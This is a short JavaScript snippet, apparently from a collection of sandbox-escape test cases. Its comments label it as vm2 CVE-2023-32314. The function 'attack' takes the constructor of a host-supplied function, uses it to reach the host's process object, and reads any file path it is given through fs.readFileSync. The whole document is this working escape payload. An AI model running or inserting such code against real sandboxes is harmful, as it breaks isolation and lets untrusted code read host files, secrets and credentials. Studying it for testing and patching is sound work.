// The constructor of a function that the host has given.
// after: read
// source: vm2: CVE-2023-32314
async function attack({ path }) {
  const process = log.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
